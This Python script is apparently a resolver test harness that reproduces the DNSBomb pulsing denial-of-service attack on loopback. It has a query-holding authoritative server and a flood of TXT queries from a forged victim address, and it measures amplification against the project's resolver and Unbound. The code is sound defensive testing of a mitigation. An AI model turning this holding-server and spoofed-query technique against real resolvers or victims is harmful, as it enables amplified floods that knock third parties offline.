"""DNSBomb (Li et al., IEEE S&P 2024; CVE-2024-33655): queries from a forged address are
held by a slow authoritative server, whose answers are released all at once, so the
resolver's answers reach the victim in one pulse.  Ours (with and without its
``pending-per-client`` bound) and Unbound 1.17 (defaults), one after the other.

    /work/shared/tools/offline python -m scripts.reliability.dnsbomb [--queries 1000]
        [--hold 0.9] [--no-unbound] [--json]

The attacker sends ``--queries`` questions for distinct names under ``bomb.`` (each
answered with a TXT record of about 1000 bytes) from the victim's address (127.66.6.6:
on loopback, binding it is the same as forging it), as fast as it can.  The server of
``bomb.`` holds every query it gets until ``--hold`` seconds after the first one, then
answers them all at once.  The victim counts what reaches it: answers, bytes, and the
most bytes within any 100 ms (the pulse), against the bytes the attacker sent.
Needs port 53 on 127.8.x.y (root in the offline namespace), as Unbound cannot be told
another upstream port.
"""

from __future__ import annotations

import argparse
import json
import socket
import sys
import tempfile
import threading
import time
from pathlib import Path
from typing import Any

import dns.message
import dns.rrset

from resolver.lab.unbound import UnboundProcess, free_port, unbound_binary
from scripts.reliability.common import Resolver
from scripts.reliability.upstreams import BrokenLab, root_role

VICTIM = "127.66.6.6"
BOMB_SERVER = "127.8.6.1"
TXT = " ".join(f'"{"b" * 240}"' for _ in range(4))  # about 970 bytes of data
WINDOW = 0.1  # seconds: the pulse is the most bytes the victim got in any such window


class HoldingServer:
    """The server of ``bomb.``: holds every query until ``hold`` seconds after the first,
    then answers them all in one go (the attacker's own authoritative server)."""

    def __init__(self, hold: float) -> None:
        self.hold = hold
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 22)
        self.sock.bind((BOMB_SERVER, 53))
        self.held: list[tuple[bytes, tuple[str, int]]] = []
        self.first: float | None = None
        self.received = 0
        self.stopped = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)

    def __enter__(self) -> HoldingServer:
        self.thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.stopped.set()
        self.thread.join(5)
        self.sock.close()

    def _serve(self) -> None:
        self.sock.settimeout(0.01)
        while not self.stopped.is_set():
            try:
                data, peer = self.sock.recvfrom(65535)
            except TimeoutError:
                data = b""
            if data:
                self._take(data, peer)
            if self.first is not None and time.monotonic() - self.first >= self.hold:
                for reply, to in self.held:
                    self.sock.sendto(reply, to)
                self.held, self.first = [], None

    def _take(self, data: bytes, peer: tuple[str, int]) -> None:
        try:
            query = dns.message.from_wire(data)
        except Exception:
            return
        self.received += 1
        response = dns.message.make_response(query)
        name = query.question[0].name
        if name.to_text().lower() == "bomb." or query.question[0].rdtype != 16:
            response.flags |= 0x0400  # AA, an empty answer (NODATA) for anything else
        else:
            response.flags |= 0x0400
            response.answer.append(dns.rrset.from_text(name, 300, "IN", "TXT", TXT))
        if self.first is None:
            self.first = time.monotonic()
        self.held.append((response.to_wire(), peer))


def attack(port: int, count: int, listen: float) -> dict[str, Any]:
    """Send ``count`` queries from the victim's address; what reached it, and when."""
    run = time.time_ns() % 1_000_000
    sent_bytes = 0
    arrivals: list[tuple[float, int]] = []
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 24)
        sock.bind((VICTIM, 0))
        started = time.monotonic()
        for i in range(count):
            query = dns.message.make_query(f"q{run}-{i}.bomb.", "TXT", use_edns=0, payload=1232)
            wire = query.to_wire()
            sock.sendto(wire, ("127.0.0.1", port))
            sent_bytes += len(wire)
        sent_in = time.monotonic() - started
        sock.settimeout(0.2)
        deadline = time.monotonic() + listen
        while time.monotonic() < deadline:
            try:
                arrivals.append((time.monotonic(), len(sock.recv(65535))))
            except TimeoutError:
                continue
    pulse = 0
    left = 0
    total = 0
    for right, (at, size) in enumerate(arrivals):
        total += size
        while arrivals[left][0] < at - WINDOW:
            left += 1
        pulse = max(pulse, sum(s for _, s in arrivals[left : right + 1]))
    first = arrivals[0][0] - started if arrivals else None
    return {
        "queries": count, "attacker_bytes": sent_bytes, "sent_in_s": round(sent_in, 3),
        "answers_to_victim": len(arrivals), "victim_bytes": total,
        "first_answer_after_s": round(first, 2) if first is not None else None,
        "pulse_bytes_100ms": pulse,
        "amplification": round(total / sent_bytes, 2) if sent_bytes else 0,
        "pulse_per_attacker_byte": round(pulse / sent_bytes, 2) if sent_bytes else 0,
    }  # fmt: skip


def run(kind: str, directory: Path, queries: int, hold: float,
        flags: tuple[str, ...] = ()) -> dict[str, Any]:  # fmt: skip
    """One resolver (``ours`` or ``unbound``) against the attack, on a fresh lab."""
    roles = [root_role({"bomb.": [("ns.bomb.", BOMB_SERVER)]})]
    with BrokenLab(directory / f"lab-{kind}", roles) as lab, HoldingServer(hold) as server:
        hints = lab.write_hints(directory / "hints")
        if kind == "ours":
            with Resolver(directory / f"ours{len(flags)}", hints, 53, *flags) as resolver:
                result = attack(resolver.port, queries, hold + 4.0)
        else:
            with UnboundProcess(directory / "unbound", hints, free_port()) as unbound:
                result = attack(unbound.port, queries, hold + 4.0)
        result["server_queries"] = server.received
    return {"resolver": kind, "flags": list(flags), "hold_s": hold, **result}


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0] if __doc__ else None)
    parser.add_argument("--queries", type=int, default=1000)
    parser.add_argument("--hold", type=float, default=0.9)
    parser.add_argument("--no-unbound", action="store_true")
    parser.add_argument("--json", action="store_true")
    args = parser.parse_args(argv)
    plans: list[tuple[str, tuple[str, ...]]] = [("ours", ()),
                                                 ("ours", ("--pending-per-client", "0"))]
    if not args.no_unbound and unbound_binary() is not None:
        plans.append(("unbound", ()))
    with tempfile.TemporaryDirectory(prefix="dnsbomb-") as tmp:
        for kind, flags in plans:
            result = run(kind, Path(tmp), args.queries, args.hold, flags)
            print(json.dumps(result) if args.json else json.dumps(result, indent=1), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
